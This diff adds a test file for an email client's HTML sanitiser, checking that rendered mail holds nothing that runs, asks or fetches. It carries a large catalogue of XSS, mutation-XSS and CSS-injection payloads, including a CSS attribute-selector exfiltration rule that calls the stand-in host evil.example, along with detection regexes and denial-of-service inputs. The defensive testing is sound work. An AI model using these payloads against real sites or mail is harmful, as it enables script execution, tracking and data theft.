@@ -1,0 +1,213 @@
+// What is left of hostile HTML when a person is shown it: looked at as a browser's parser reads it, for
+// anything that would run, ask or fetch.
+
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import type { Element, Root } from 'hast'
+import { fromHtml } from 'hast-util-from-html'
+import { shownBody, showSource } from '#mail/display/shown-body.ts'
+
+const ADDRESS = '/v1/messages/msg_1/image?x=1'
+const REMOTE = 'https://evil.example/track.png'
+
+/** The page, with all images of other hosts left out unless `showsRemote`. */
+function show(html: string, showsRemote = false): { page: string; blocked: number } {
+  const shown = showSource({ html, showsRemote })
+  assert.ok(shown !== null)
+  const page = shownBody(shown, 'its text', (image) => (image.kind === 'part' ? '/part' : ADDRESS))
+  return { page, blocked: shown.blockedCount }
+}
+
+function elementsOf(page: string): Element[] {
+  const found: Element[] = []
+  const visit = (node: Root | Element) => {
+    for (const child of node.children) {
+      if (child.type !== 'element') continue
+      found.push(child)
+      visit(child)
+    }
+  }
+  visit(fromHtml(page))
+  return found
+}
+
+const textOf = (element: Element): string =>
+  element.children.map((child) => (child.type === 'text' ? child.value : '')).join('')
+
+const ELEMENTS = new Set(
+  `html head meta title style body a abbr area article b blockquote br center code col div em font h1 h2
+  hr i img li map ol p picture pre small span strong sub sup table tbody td tfoot th thead tr u ul`.split(
+    /\s+/,
+  ),
+)
+const FETCHING =
+  /^(?:src|srcset|background|poster|data|action|formaction|ping|longdesc|profile|code|codebase|classid|manifest|lowsrc|dynsrc|archive|icon|cite|srcdoc|content)$/i
+
+/** Everything in the page that a browser would run, ask or fetch from elsewhere. */
+function dangersOf(page: string): string[] {
+  return elementsOf(page).flatMap(({ tagName, properties, children }) => {
+    const dangers: string[] = []
+    const element: Element = { type: 'element', tagName, properties, children }
+    if (!ELEMENTS.has(tagName)) dangers.push(`<${tagName}>`)
+    for (const [name, value] of Object.entries(properties)) {
+      const text = String(value)
+      if (/^on/i.test(name)) dangers.push(name)
+      const isOurs = /^\/(?:part|v1\/)|^data:image\/(?:gif|png)/.test(text)
+      if (tagName !== 'meta' && FETCHING.test(name) && !isOurs) dangers.push(`${name}=${text}`)
+      if (name === 'href' && !/^(?:https?:|mailto:|tel:|#)/.test(text)) dangers.push(`href=${text}`)
+      if (name === 'style') dangers.push(...cssDangers(text))
+    }
+    if (tagName === 'style') dangers.push(...cssDangers(textOf(element)))
+    return dangers
+  })
+}
+
+/** After what CSS takes for one: comments gone, escapes resolved. */
+function cssDangers(css: string): string[] {
+  const plain = css
+    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_, hex: string) =>
+      String.fromCodePoint(Math.min(0x10ffff, Number.parseInt(hex, 16))),
+    )
+    .replace(/\\(.)/g, '$1')
+  const dangers = plain.match(
+    /@import|@font-face|expression\s*\(|-moz-binding|behavior\s*:|image-set|src\s*\(/gi,
+  )
+  const urls = [...plain.matchAll(/url\(\s*['"]?(.{0,30})/gi)]
+    .map(([, target = '']) => target)
+    .filter((target) => !/^(?:\/part|\/v1\/|data:image\/)/.test(target))
+  return [...(dangers ?? []), ...urls.map((target) => `url(${target}`)]
+}
+
+const HOSTILE: Record<string, string> = {
+  script: `<script src="${REMOTE}"></script><script>alert(1)</script>`,
+  'script in svg': `<svg><script href="${REMOTE}"/><image href="${REMOTE}"/></svg>`,
+  'script broken up': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  onerror: '<img src="x" onerror="alert(1)"><body onload=alert(1)><div ONCLICK=a>',
+  form: `<form action="${REMOTE}"><input type=image src="${REMOTE}"><button formaction="${REMOTE}">x</button></form>`,
+  'form by an attribute': `<input form=f formaction="${REMOTE}"><isindex action="${REMOTE}">`,
+  'meta refresh': `<meta http-equiv="refresh" content="0;url=${REMOTE}">`,
+  base: '<base href="https://evil.example/"><a href="x">x</a><img src="x.png">',
+  links: `<link rel=stylesheet href="${REMOTE}"><link rel="preload" as=image href="${REMOTE}"><link rel=dns-prefetch href="//evil.example">`,
+  iframe: `<iframe src="${REMOTE}"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src="${REMOTE}"></frameset>`,
+  object: `<object data="${REMOTE}"><embed src="${REMOTE}"></object><applet code="${REMOTE}">`,
+  'svg use': `<svg><use href="${REMOTE}#x"/><feImage href="${REMOTE}"/></svg><math><mtext><img src="${REMOTE}"></mtext></math>`,
+  srcset: `<img srcset="${REMOTE} 1x, ${REMOTE} 2x" alt="x"><img src="" srcset="${REMOTE}">`,
+  picture: `<picture><source srcset="${REMOTE}" media="(min-width:1px)"><img src="${REMOTE}"></picture>`,
+  video: `<video poster="${REMOTE}" src="${REMOTE}"><source src="${REMOTE}"><track src="${REMOTE}"></video><audio src="${REMOTE}" autoplay></audio>`,
+  background: `<body background="${REMOTE}"><table background="${REMOTE}"><td background="//evil.example/x">x</td></table>`,
+  'old image attributes': `<img lowsrc="${REMOTE}" dynsrc="${REMOTE}" longdesc="${REMOTE}"><blockquote cite="${REMOTE}">x</blockquote>`,
+  ping: `<a href="https://a.example/" ping="${REMOTE}">x</a>`,
+  'javascript link':
+    '<a href="javascript:alert(1)">x</a><a href=" java\nscript:alert(1)">y</a><a href="&#106;avascript:alert(1)">z</a><a href="data:text/html,<script>">d</a><a href="vbscript:x">v</a>',
+  'javascript image':
+    '<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html,x">',
+  'css url': `<div style="background:url(${REMOTE})">x</div><style>p{background:url('${REMOTE}')} q{list-style:url(${REMOTE})}</style>`,
+  'css import': `<style>@import "${REMOTE}";@import url(${REMOTE});@IMPORT '${REMOTE}';@\\69mport "${REMOTE}";a{}</style>`,
+  'css font': `<style>@font-face{font-family:x;src:url(${REMOTE})}</style>`,
+  'css image-set': `<p style="background-image:image-set('${REMOTE}' 1x);background:-webkit-image-set(url(${REMOTE}) 1x)">x`,
+  'css src': `<p style="background:src('${REMOTE}')">x</p>`,
+  'css escapes': `<style>a{background:u\\72l(${REMOTE})} b{background:\\75\\72\\6c(${REMOTE})}</style>`,
+  'css comments': `<style>a{background:url/**/(${REMOTE})} b{background:ur/**/l(${REMOTE})} c{background:url<!--(${REMOTE})}</style>`,
+  'css variable': `<style>:root{--x:url(${REMOTE})} a{background:var(--x)}</style>`,
+  'css in parentheses': `<style>a{b:foo(;background:url(${REMOTE})} @media x({a{b:url(${REMOTE})}}</style>`,
+  'css expression':
+    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>',
+  'css broken string': `<style>a{content:"x\n;background:url(${REMOTE});b:"}</style>`,
+  'css end of element': '<style>a{content:"</style><script>alert(1)</script>"}</style>',
+  'css exfiltration': `<style>input[value^="a"]{background:url(${REMOTE}?a)} a[href*=token]{background-image:url(${REMOTE}?b)}</style>`,
+  'css charset and namespace': `<style>@charset "utf-7";@namespace url(${REMOTE});@document url(${REMOTE}){a{b:c}}</style>`,
+  'markup in a template': `<template><img src="${REMOTE}"></template><noscript><img src="${REMOTE}"></noscript>`,
+  'markup in raw text': `<xmp><img src="${REMOTE}"></xmp><noembed><img src="${REMOTE}"></noembed><plaintext><img src="${REMOTE}">`,
+  'markup in a title':
+    '<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)>',
+  mutation:
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  'mutation by select':
+    '<select><template><style></select><img src=x onerror=alert(1)></style></template></select>',
+  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  'attribute breaking out':
+    '<a title="x&quot; onclick=&quot;alert(1)" href="https://a.example/&quot;onclick=alert(1)//">x</a><img alt="`><script>alert(1)</script>">',
+  'style breaking out': '<p style="x:&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
+  comments: '<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->',
+  'processing instruction': `<?xml-stylesheet href="${REMOTE}"?><!DOCTYPE html SYSTEM "${REMOTE}"><![CDATA[<script>x</script>]]>`,
+  'second document': `</body></html><script>alert(1)</script><html manifest="${REMOTE}"><body background="${REMOTE}">`,
+  'image map': `<img usemap="#m" src="${REMOTE}"><map name="m"><area href="javascript:alert(1)" ping="${REMOTE}"></map>`,
+  'custom element':
+    '<x-y is="z" onfoo="a">x</x-y><dialog open>x</dialog><portal src="https://evil.example/">',
+}
+
+for (const [name, html] of Object.entries(HOSTILE)) {
+  test(`nothing runs, asks or is fetched: ${name}`, () => {
+    for (const showsRemote of [false, true]) {
+      const { page } = show(`before ${html} after`, showsRemote)
+      assert.deepEqual(dangersOf(page), [])
+      assert.ok(!page.includes('alert(1)</script>'))
+      const withoutLinks = page.replace(/<a href="[^"]*"/g, '')
+      assert.doesNotMatch(withoutLinks.replace(/&[a-z]+;/g, ' '), /="\s*(?:https?:)?\/\/evil/i)
+    }
+  })
+}
+
+test('images of other hosts are counted as they are left out, and shown where that is asked for', () => {
+  const html = `<style>p{background:url(//evil.example/c)}</style><body background="${REMOTE}">
+    <img src="${REMOTE}" alt="words" width="5"><div style="background:url('${REMOTE}')">x</div>`
+  const left = show(html)
+  assert.equal(left.blocked, 4)
+  assert.ok(left.page.includes('<img alt="words" width="5">'))
+  const shown = show(html, true)
+  assert.equal(shown.blocked, 0)
+  assert.equal(shown.page.split(ADDRESS).length, 5)
+})
+
+test('images of the mail itself and in its addresses are shown', () => {
+  const data = 'data:image/png;base64,iVBORw0KGgo='
+  const { page, blocked } = show(`<img src="cid:logo%40a"><img src="CID:x"><img src="${data}">`)
+  assert.equal(blocked, 0)
+  assert.equal(page.split('src="/part"').length, 3)
+  assert.ok(page.includes(data))
+})
+
+test('styles and layout stay as they were', () => {
+  const sheet = '@media (max-width: 600px){.a>b:not(.c){color:rgb(1,2,3)!important;margin:-1px}}'
+  const style = 'position:absolute;width:calc(100% - 10px);font-family:"A B",serif'
+  const html = `<style>${sheet}</style><table bgcolor="#fff" class="a b"><tr><td style='${style}'>x</td></tr></table>`
+  const { page } = show(html)
+  assert.ok(page.includes(sheet))
+  assert.ok(page.includes(`style="${style.replaceAll('"', '&quot;')}"`))
+  assert.ok(page.includes('<table bgcolor="#fff" class="a b">'))
+})
+
+test('links open elsewhere and tell nothing; those within the page stay in it', () => {
+  const { page } = show(
+    '<a href="https://a.example/?a=1&amp;b=2" target="_top">x</a><a href="#top">y</a>',
+  )
+  assert.ok(
+    page.includes(
+      '<a href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">',
+    ),
+  )
+  assert.ok(page.includes('<a href="#top">'))
+})
+
+test('a mail without HTML is its text, in which markup is text and addresses are links', () => {
+  const page = shownBody(null, '<b>a & b</b>\r\n see https://a.example/x?y=1&z=2).', () => null)
+  assert.ok(page.includes('&lt;b&gt;a &amp; b&lt;/b&gt;'))
+  assert.ok(page.includes('<a href="https://a.example/x?y=1&amp;z=2" target="_blank"'))
+  assert.deepEqual(dangersOf(page), [])
+})
+
+test('hostile sizes end in time, and what cannot be shown is told', () => {
+  const deep = '<div>'.repeat(25_000)
+  const wide = '<p style="color:rgb(1,2,3);background:url(x)">x</p>'.repeat(14_000)
+  const sheet = `<style>${'a{b:url(x);c:"'.repeat(60_000)}</style>`
+  const opened = `<style>${'('.repeat(400_000)}</style>`
+  for (const html of [deep, wide, sheet, opened, '<'.repeat(25_000), '"<a b='.repeat(25_000)]) {
+    const startMs = performance.now()
+    const shown = showSource({ html, showsRemote: false })
+    assert.ok(shown !== null)
+    assert.ok(performance.now() - startMs < 10_000)
+  }
+  assert.equal(showSource({ html: '<p>'.repeat(40_000), showsRemote: false }), null)
+  const cut = show(`<p>${'x'.repeat(1_100_000)}</p>`)
+  assert.ok(cut.page.includes('too long to be shown'))
+})
